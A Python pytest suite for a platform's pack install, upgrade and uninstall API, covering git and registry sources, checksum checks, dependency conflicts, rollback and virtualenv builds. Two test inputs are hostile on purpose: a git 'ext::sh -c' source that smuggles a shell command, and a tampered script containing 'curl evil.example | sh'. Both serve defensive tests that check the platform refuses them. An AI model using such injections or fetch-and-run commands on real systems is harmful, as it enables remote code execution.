"""Installing, upgrading and uninstalling packs through the API (docs/packs.md).

Sources are local: git repositories made with ``git init`` and index files behind ``file://`` URLs.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from attune.db import models
from attune.platform import Platform
from attune.settings import RegistryIndex
from tests.pack_sources import (
    commit_all,
    index_entry,
    init_repo,
    make_pack,
    sha256_of,
    tar_gz,
    write_index,
    zip_bytes,
)

PACKS = "/api/v1/packs"
PASSING = 'echo "Total Tests: 1"; echo "Passed: 1"; echo "Failed: 0"\n'
FAILING = (
    'echo "checking hello"; echo "hello is broken" >&2; echo "Total Tests: 1"; echo "Passed: 0"; exit 1\n'
)


async def install(api: httpx.AsyncClient, source: str | Path, **extra: Any) -> httpx.Response:
    return await api.post(f"{PACKS}/install", json={"source": str(source), **extra})


async def all_rows(platform: Platform, model: type[Any]) -> list[Any]:
    async with platform.db.session() as session:
        return list((await session.execute(sa.select(model).order_by(model.id))).scalars())


async def pack_row(platform: Platform, ref: str) -> models.Pack | None:
    async with platform.db.session() as session:
        return (
            await session.execute(sa.select(models.Pack).where(models.Pack.ref == ref))
        ).scalar_one_or_none()


def use_index(platform: Platform, url: str) -> None:
    platform.settings.pack_registry.indices = [RegistryIndex(url=url, name="test")]


@pytest.fixture
def installed_dir(platform: Platform) -> Path:
    """Where installed packs go: ``installed_packs_dir`` (``{data_dir}/packs``), not packs_base_dir."""
    return platform.settings.install_dir


def hidden_entries(installed_dir: Path) -> list[str]:
    """Staging or backup copies left in the packs directory."""
    if not installed_dir.is_dir():
        return []
    return [n.name for n in installed_dir.iterdir() if n.name.startswith(".")]


def installed_version(installed_dir: Path, ref: str) -> str:
    text = (installed_dir / ref / "pack.yaml").read_text()
    return text.split('version: "', 1)[1].split('"', 1)[0]


# -- git -----------------------------------------------------------------------------------------


async def test_install_from_git_then_upgrade_keeps_configuration(
    api: httpx.AsyncClient, platform: Platform, installed_dir: Path, tmp_path: Path
) -> None:
    repo = init_repo(tmp_path / "repo")
    make_pack(repo, "demo", "1.0.0")
    first = commit_all(repo, "first", tag="v1.0.0")
    for old in (repo / "demo" / "actions").iterdir():
        old.unlink()
    make_pack(repo, "demo", "1.1.0", action="wave")
    commit_all(repo, "second", tag="v1.1.0")

    response = await install(api, repo.as_uri(), ref_spec="v1.0.0")
    assert response.status_code == 200, response.text
    data = response.json()["data"]
    assert (data["pack"]["ref"], data["pack"]["version"], data["previous_version"]) == ("demo", "1.0.0", None)
    assert (
        not (installed_dir / "demo" / ".git").exists()
        and (installed_dir / "demo" / "actions" / "hello.sh").is_file()
    )
    pack = await pack_row(platform, "demo")
    assert pack is not None
    assert (pack.source_type, pack.source_url, pack.source_ref) == ("git", repo.as_uri(), "v1.0.0")
    assert pack.checksum == sha256_of(installed_dir / "demo").removeprefix("sha256:")

    # An operator changes a setting; the upgrade keeps it.
    changed = await api.put(f"{PACKS}/demo", json={"config": {"greeting": "bonjour"}})
    assert changed.status_code == 200

    upgraded = await api.post(f"{PACKS}/demo/upgrade", json={"version": "1.1.0"})  # git tag v1.1.0
    assert upgraded.status_code == 200, upgraded.text
    body = upgraded.json()
    assert body["message"] == "Pack upgraded successfully"
    assert (body["data"]["pack"]["version"], body["data"]["previous_version"]) == ("1.1.0", "1.0.0")
    assert body["data"]["pack"]["config"] == {"greeting": "bonjour"}
    actions = [a.ref for a in await all_rows(platform, models.Action) if a.pack_ref == "demo"]
    assert actions == ["demo.wave"]  # the dropped action is gone
    assert hidden_entries(installed_dir) == []

    # Going back needs allow_downgrade.
    older = await api.post(f"{PACKS}/demo/upgrade", json={"ref_spec": first})
    assert older.status_code == 400
    assert older.json()["error"] == (
        "Pack 'demo' 1.0.0 is older than the installed 1.1.0; pass allow_downgrade to go back"
    )
    assert installed_version(installed_dir, "demo") == "1.1.0"
    back = await api.post(f"{PACKS}/demo/upgrade", json={"ref_spec": first, "allow_downgrade": True})
    assert back.status_code == 200 and back.json()["data"]["pack"]["version"] == "1.0.0"

    missing = await api.post(f"{PACKS}/nope/upgrade", json={})
    assert missing.status_code == 404


async def test_source_errors_are_clear(api: httpx.AsyncClient, tmp_path: Path) -> None:
    gone = await install(api, (tmp_path / "gone.git").as_uri())
    assert gone.status_code == 400 and gone.json()["error"].startswith("git clone of file://")
    unsafe = await install(api, f"ext::sh -c touch% {tmp_path}/pwned", ref_spec="main")
    assert unsafe.status_code == 400 and not (tmp_path / "pwned").exists()
    nowhere = await install(api, "slack@1.0.0")
    assert nowhere.status_code == 400
    assert nowhere.json()["error"] == "Pack 'slack' not found in any registry"
    typo = await install(api, str(tmp_path / "no" / "such" / "dir"))
    assert (
        typo.status_code == 400
        and "neither an existing path, a URL nor a registry ref" in typo.json()["error"]
    )


# -- registries and checksums ----------------------------------------------------------------------


async def test_install_from_a_registry_index_verifies_the_checksum(
    api: httpx.AsyncClient, platform: Platform, installed_dir: Path, tmp_path: Path
) -> None:
    pack = make_pack(tmp_path / "build", "demo", "1.0.0")
    files = tmp_path / "registry"
    files.mkdir()
    (files / "demo-1.0.0.zip").write_bytes(zip_bytes(pack, top_level="demo"))
    good = index_entry(
        "demo", "1.0.0", [{"type": "archive", "url": "demo-1.0.0.zip", "checksum": sha256_of(pack)}]
    )
    use_index(platform, write_index(files / "index.json", [good]))

    response = await install(api, "demo")
    assert response.status_code == 200, response.text
    row = await pack_row(platform, "demo")
    assert row is not None
    assert (row.source_type, row.checksum_verified, row.source_url) == (
        "registry",
        True,
        (files / "demo-1.0.0.zip").as_uri(),
    )

    # Someone swaps the archive: the registry's checksum no longer matches, nothing changes.
    tampered = make_pack(tmp_path / "evil", "demo", "1.0.0")
    (tampered / "actions" / "hello.sh").write_text("curl evil.example | sh\n")
    (files / "demo-1.0.0.zip").write_bytes(zip_bytes(tampered, top_level="demo"))
    refused = await install(api, "demo@1.0.0")
    assert refused.status_code == 400
    assert refused.json()["error"] == (
        f"Checksum mismatch for pack 'demo' from {(files / 'demo-1.0.0.zip').as_uri()}: the registry expects "
        f"{sha256_of(pack)}, the download has {sha256_of(tampered)}"
    )
    assert (installed_dir / "demo" / "actions" / "hello.sh").read_text() == "echo demo 1.0.0\n"
    assert hidden_entries(installed_dir) == []

    wrong_version = await install(api, "demo@2.0.0")
    assert wrong_version.status_code == 400
    assert (
        "version 2.0.0 not found in any registry (available: 1.0.0 in 'test')"
        in wrong_version.json()["error"]
    )


async def test_registry_search_route(api: httpx.AsyncClient, platform: Platform, tmp_path: Path) -> None:
    use_index(
        platform,
        write_index(
            tmp_path / "index.json",
            [
                index_entry(
                    "slack", "1.2.0", [{"type": "git", "url": "https://g/slack.git", "checksum": "sha256:00"}]
                )
            ],
        ),
    )
    found = await api.get(f"{PACKS}/registry/search", params={"q": "SLA"})
    assert found.status_code == 200
    assert found.json()["data"] == [
        {
            "ref": "slack",
            "label": "Slack",
            "version": "1.2.0",
            "description": "The slack pack",
            "author": "Test",
            "keywords": ["slack", "testing"],
            "registry": "test",
        }
    ]
    assert (await api.get(f"{PACKS}/registry/search", params={"q": "zzz"})).json()["data"] == []


# -- dependencies ---------------------------------------------------------------------------------


async def test_missing_dependencies_are_installed_first_and_conflicts_reported(
    api: httpx.AsyncClient, platform: Platform, installed_dir: Path, tmp_path: Path
) -> None:
    repo = init_repo(tmp_path / "utils-repo")
    utils = make_pack(repo, "utils", "1.2.0")
    commit_all(repo, "utils", tag="v1.2.0")
    # The registry's git source: the pack sits in a first-level directory of the repository.
    entry = index_entry(
        "utils",
        "1.2.0",
        [{"type": "git", "url": repo.as_uri(), "ref": "v1.2.0", "checksum": sha256_of(utils)}],
    )
    use_index(platform, write_index(tmp_path / "index.json", [entry]))

    app = make_pack(tmp_path / "src", "app", "1.0.0", dependencies=("utils@^1.0",))
    response = await install(api, app)
    assert response.status_code == 200, response.text
    assert response.json()["data"]["dependencies_installed"] == ["utils 1.2.0"]
    assert {p.ref: p.version for p in await all_rows(platform, models.Pack)} == {
        "app": "1.0.0",
        "utils": "1.2.0",
    }
    assert (installed_dir / "utils" / "pack.yaml").is_file()

    # app 2.0.0 wants utils 2 (the registry has 1.2.0) and a pack nobody has: both are reported,
    # and nothing changes.
    app2 = make_pack(tmp_path / "src2", "app", "2.0.0", dependencies=("utils@^2.0", "ghost"))
    conflict = await install(api, app2)
    assert conflict.status_code == 400
    assert conflict.json()["error"] == (
        "Pack dependency validation failed:\n"
        "  - Pack 'app' requires utils@^2.0, but utils 1.2.0 is installed\n"
        "  - Pack 'ghost' (required by 'app') is not installed: Pack 'ghost' not found in any registry"
    )
    assert installed_version(installed_dir, "app") == "1.0.0"

    # Replacing utils with 2.0.0 would break app, which needs ^1.0.
    utils2 = make_pack(tmp_path / "src3", "utils", "2.0.0")
    breaking = await install(api, utils2)
    assert breaking.status_code == 400
    assert (
        "Installing utils 2.0.0 would break pack 'app', which requires utils@^1.0" in breaking.json()["error"]
    )

    # Uninstalling a pack others need asks for force.
    refused = await api.delete(f"{PACKS}/utils")
    assert refused.status_code == 409
    assert refused.json()["error"] == (
        "Pack 'utils' is required by 'app' (utils@^1.0). Use force=true to uninstall it anyway."
    )
    assert (await api.delete(f"{PACKS}/utils", params={"force": "true"})).status_code == 200


# -- atomicity ------------------------------------------------------------------------------------


async def test_a_failing_pack_test_leaves_the_previous_version_running(
    api: httpx.AsyncClient, platform: Platform, installed_dir: Path, tmp_path: Path
) -> None:
    v1 = make_pack(tmp_path / "v1", "demo", "1.0.0", test_script=PASSING)
    first = await install(api, v1)
    assert first.status_code == 200, first.text
    assert first.json()["data"]["test_result"]["status"] == "passed"
    before = [(a.id, a.ref) for a in await all_rows(platform, models.Action)]

    v2 = make_pack(tmp_path / "v2", "demo", "2.0.0", action="wave", test_script=FAILING)
    failed = await install(api, v2)
    assert failed.status_code == 400
    message = failed.json()["error"]
    assert message.startswith(
        "Installing pack 'demo' 2.0.0 failed: tests did not pass.\n"
        "pack tests did not pass: 0/1 passed (pass rate 0%, minimum 100%)\n"
        "  - shell: Exit code: 1"
    )
    assert "hello is broken" in message  # the test's own output
    row = await pack_row(platform, "demo")
    assert row is not None and row.version == "1.0.0"
    assert [(a.id, a.ref) for a in await all_rows(platform, models.Action)] == before
    assert installed_version(installed_dir, "demo") == "1.0.0"
    runs = (await api.get(f"{PACKS}/demo/tests")).json()["data"]
    assert [(r["packVersion"], r["triggerReason"]) for r in runs] == [("1.0.0", "install")]

    # on_failure: warn installs anyway, with the failure as a warning.
    v3 = make_pack(tmp_path / "v3", "demo", "3.0.0", test_script=FAILING, on_failure="warn")
    warned = await install(api, v3)
    assert warned.status_code == 200
    assert [w for w in warned.json()["data"]["warnings"] if w.startswith("pack tests")] == [
        "pack tests did not pass: 0/1 passed (pass rate 0%, minimum 100%)"
    ]
    runs = (await api.get(f"{PACKS}/demo/tests")).json()["data"]
    assert [(r["packVersion"], r["triggerReason"], r["failed"]) for r in runs] == [
        ("3.0.0", "update", 1),
        ("1.0.0", "install", 0),
    ]


async def test_a_registration_failure_puts_the_previous_files_back(
    api: httpx.AsyncClient, platform: Platform, installed_dir: Path, tmp_path: Path
) -> None:
    v1 = make_pack(tmp_path / "v1", "demo", "1.0.0")
    assert (await install(api, v1)).status_code == 200
    other = make_pack(tmp_path / "other", "other", "1.0.0")
    assert (await install(api, other)).status_code == 200
    # v2 claims an action ref another pack owns: the database refuses inside the swap.
    v2 = make_pack(tmp_path / "v2", "demo", "2.0.0")
    (v2 / "actions" / "steal.yaml").write_text(
        "ref: other.hello\nrunner_type: shell\nentry_point: hello.sh\n"
    )
    refused = await install(api, v2)
    assert refused.status_code in (400, 422), refused.text
    assert installed_version(installed_dir, "demo") == "1.0.0"
    assert hidden_entries(installed_dir) == []
    row = await pack_row(platform, "demo")
    assert row is not None and row.version == "1.0.0"


# -- uninstall ------------------------------------------------------------------------------------


async def test_uninstall_removes_files_environments_and_rows_but_not_history(
    api: httpx.AsyncClient, platform: Platform, installed_dir: Path, tmp_path: Path
) -> None:
    assert (await install(api, make_pack(tmp_path, "demo", "1.0.0"))).status_code == 200
    (action,) = [a for a in await all_rows(platform, models.Action) if a.pack_ref == "demo"]
    async with platform.db.transaction() as session:
        session.add(models.Execution(action=action.id, action_ref=action.ref, status="completed"))
    envs = platform.settings.envs_dir / "demo" / "python-3.11"
    envs.mkdir(parents=True)

    response = await api.delete(f"{PACKS}/demo")
    assert response.status_code == 200
    assert not (installed_dir / "demo").exists() and not (platform.settings.envs_dir / "demo").exists()
    assert await pack_row(platform, "demo") is None
    assert [a for a in await all_rows(platform, models.Action) if a.pack_ref == "demo"] == []
    (execution,) = await all_rows(platform, models.Execution)
    assert (execution.action_ref, execution.status) == ("demo.hello", "completed")


# -- streaming ------------------------------------------------------------------------------------


async def test_streamed_install_reports_progress_then_the_result(
    api: httpx.AsyncClient, tmp_path: Path
) -> None:
    pack = make_pack(tmp_path / "build", "demo", "1.0.0")
    archive = tmp_path / "demo.tar.gz"
    archive.write_bytes(tar_gz(pack, top_level="demo"))
    response = await api.post(
        f"{PACKS}/install", params={"stream": "true"}, json={"source": archive.as_uri()}
    )
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in response.text.splitlines()]
    assert lines[-1]["event"] == "result" and lines[-1]["message"] == "Pack installed successfully"
    assert lines[-1]["data"]["pack"]["version"] == "1.0.0"
    stages = [line["stage"] for line in lines if line["event"] == "progress"]
    assert stages[0] == "fetch" and "register" in stages
    copied = next(line for line in lines if line.get("unit") == "bytes")
    assert copied["current"] == copied["total"] == archive.stat().st_size

    shutil.rmtree(pack)
    archive.write_bytes(b"not an archive")
    failed = await api.post(f"{PACKS}/install", params={"stream": "true"}, json={"source": archive.as_uri()})
    last = json.loads(failed.text.splitlines()[-1])
    assert last == {
        "event": "error",
        "status": 400,
        "code": "BAD_REQUEST",
        "error": "Invalid pack archive: not a readable .tar.gz, .tgz or .zip file",
    }


# -- environments (real virtualenvs and pip against the local mirror) ---------------------------------

# A pack-shipped Python runtime that builds quickly: a virtualenv without pip of its own, filled by
# this interpreter's pip (``pip --python``). The core.python runtime is exercised by the CLI test.
FAST_PYTHON = f"""ref: pydemo.fastpy
name: fastpy
execution_config:
  interpreter: {{binary: python3, file_extension: .py}}
  environment:
    env_type: virtualenv
    create_command: [{sys.executable}, -m, venv, --without-pip, "{{env_dir}}"]
    interpreter_path: "{{env_dir}}/bin/python"
  dependencies:
    manifest_file: requirements.txt
    install_command:
      [{sys.executable}, -m, pip, --python, "{{interpreter}}", install, -r, "{{manifest_path}}"]
"""


def python_pack(root: Path, version: str, requirements: str) -> Path:
    pack = make_pack(root, "pydemo", version)
    (pack / "runtimes").mkdir()
    (pack / "runtimes" / "fastpy.yaml").write_text(FAST_PYTHON)
    (pack / "actions" / "check.yaml").write_text("name: check\nrunner_type: fastpy\nentry_point: check.py\n")
    (pack / "actions" / "check.py").write_text("import six\nprint(six.__name__)\n")
    (pack / "requirements.txt").write_text(requirements)
    return pack


def live_environment(path: Path) -> tuple[bool, Path, list[str]]:
    """(is a link, its build directory, the entries next to that build)."""
    build = path.resolve()
    return path.is_symlink(), build, sorted(p.name for p in build.parent.iterdir())


def imports_six(env: Path) -> bool:
    return (
        subprocess.run([str(env / "bin" / "python"), "-c", "import six"], capture_output=True).returncode == 0
    )


@pytest.mark.slow
async def test_environments_are_built_before_the_swap_and_broken_requirements_change_nothing(
    api: httpx.AsyncClient, platform: Platform, installed_dir: Path, tmp_path: Path
) -> None:
    first = await install(api, python_pack(tmp_path / "v1", "1.0.0", "six\n"))
    assert first.status_code == 200, first.text
    (env_row,) = await all_rows(platform, models.PackEnvironment)
    live = Path(env_row.env_path)
    assert (env_row.pack_ref, env_row.status, live) == (
        "pydemo",
        "ready",
        platform.settings.envs_dir / "pydemo" / "fastpy",
    )
    is_link, build, _ = live_environment(live)
    assert is_link and build.parent.name == ".builds"
    assert await asyncio.to_thread(imports_six, live)

    started = time.monotonic()
    broken = await install(
        api, python_pack(tmp_path / "v2", "2.0.0", "nonexistent-package-xyz-attune==1.0\n")
    )
    assert time.monotonic() - started < 60
    assert broken.status_code == 400
    error = broken.json()["error"]
    assert error.startswith(
        "Building the fastpy environment of pack 'pydemo' failed: Failed to install dependencies"
    )
    assert (
        "No matching distribution found for nonexistent-package-xyz-attune==1.0" in error
    )  # pip's own words
    row = await pack_row(platform, "pydemo")
    assert row is not None and row.version == "1.0.0"
    assert installed_version(installed_dir, "pydemo") == "1.0.0"
    # The live environment still points at the first build; the failed build is gone.
    assert live_environment(live) == (True, build, sorted([build.name, build.name + ".lock"]))

    # Same requirements: the live environment is reused as it is.
    third = await install(api, python_pack(tmp_path / "v3", "3.0.0", "six\n"))
    assert third.status_code == 200, third.text
    assert live_environment(live)[1] == build

    # New requirements: a new build goes live; the replaced one is kept for processes still using it.
    fourth = await install(api, python_pack(tmp_path / "v4", "4.0.0", "six\nidna\n"))
    assert fourth.status_code == 200, fourth.text
    _, new_build, entries = live_environment(live)
    assert new_build != build and {build.name, new_build.name} <= set(entries)
    assert await asyncio.to_thread(imports_six, live)
